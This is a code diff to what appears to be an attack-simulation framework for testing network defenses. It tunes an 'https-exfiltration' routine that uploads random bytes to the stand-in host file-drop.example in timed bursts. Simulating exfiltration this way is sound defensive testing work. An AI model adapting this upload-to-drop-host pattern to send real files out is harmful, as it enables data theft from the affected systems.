@@ -12,8 +12,8 @@ from .servers import ARCHIVE_PORT
 
 @attack("https-exfiltration", causes=asks("file-drop.example"))
 def https_exfiltration(w: Work, intensity: str) -> None:
-    """Files are uploaded over HTTPS: 3 MB in one go, 1.2 MB in three, or 240 kB in four with long pauses."""
-    size, count, period = by(intensity, (3_000_000, 1, 16), (400_000, 3, 160), (60_000, 4, 400))
+    """Files are uploaded over HTTPS: 3 MB in five goes, 1.2 MB in three, or 240 kB in four with long pauses."""
+    size, count, period = by(intensity, (600_000, 5, 64), (400_000, 3, 160), (60_000, 4, 400))
     for turn in turns(w, count, period):
         https(w, "file-drop.example", f"/upload/{turn}", w.rng.randbytes(size))
 
